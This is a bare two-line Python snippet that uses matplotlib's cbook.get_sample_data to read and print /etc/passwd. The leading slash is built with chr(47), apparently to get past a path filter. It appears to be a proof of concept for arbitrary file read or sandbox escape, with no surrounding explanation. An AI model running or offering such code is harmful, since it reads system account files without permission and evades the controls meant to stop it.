from matplotlib import cbook
print(cbook.get_sample_data(chr(47) + "etc/passwd").read())
